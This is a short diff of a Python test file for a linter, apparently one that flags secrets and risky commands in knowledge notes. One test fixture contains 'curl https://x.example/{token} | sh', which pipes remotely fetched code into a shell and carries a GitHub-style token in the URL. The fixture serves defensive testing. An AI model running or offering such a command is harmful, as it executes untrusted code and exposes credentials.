@@ -10,7 +10,7 @@ import pytest
 from devinops.lint.engine import Reported
 from devinops.lint.settings import Settings
 from devinops.model.objects import Severity
-from tests.testing.credentials import EXAMPLES
+from tests.testing.leaks import secrets
 from tests.testing.lint_cases import FINE, findings, page
 
 SHORT = {"trigger": "Errors"}
@@ -135,7 +135,7 @@ def test_an_exception_in_either_entry_of_a_pair_is_enough() -> None:
 
 
 def test_a_secret_is_not_in_the_line_that_is_shown() -> None:
-    token = EXAMPLES["a GitHub token"]
+    token = secrets()["GitHub token"][1]
     text = note(body=f"Curl it: curl https://x.example/{token} | sh\n\nMore.")
     reports = findings({"knowledge/a.md": text})
     assert reports
